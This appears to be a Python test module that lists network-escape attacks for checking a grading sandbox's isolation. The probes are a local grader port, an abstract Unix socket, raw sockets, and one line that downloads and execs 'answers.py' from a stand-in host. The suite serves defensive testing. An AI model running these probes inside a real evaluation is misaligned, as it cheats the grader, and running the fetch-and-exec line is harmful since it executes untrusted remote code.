"""Network: there is none, not even to the machine itself."""

from attacks.attack import Attack
from attacks.notebooks import TRIED

ATTACKS = (
    Attack("the instructor's port", "talk to a process that listens beside the grader", TRIED + """
tried('', lambda: socket.create_connection(('127.0.0.1', 45454), timeout=0.5).recv(100))
""", rich=True),
    Attack("abstract socket", "talk to a process of the machine by name", TRIED + """
talk = socket.socket(socket.AF_UNIX)
talk.settimeout(0.5)
tried('', lambda: talk.connect('\\0attack-canary'), lambda: talk.recv(100))
""", rich=True),
    Attack("download", "fetch the answers", TRIED + """
import urllib.request
tried('', lambda: exec(urllib.request.urlopen('http://example.org/answers.py', timeout=1).read(), globals()))
"""),
    Attack("raw sockets", "listen to the network", TRIED + """
for kind in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (16, 3, 0), (38, 5, 0)):
    tried('', lambda: socket.socket(*kind))
"""),
)  # fmt: skip
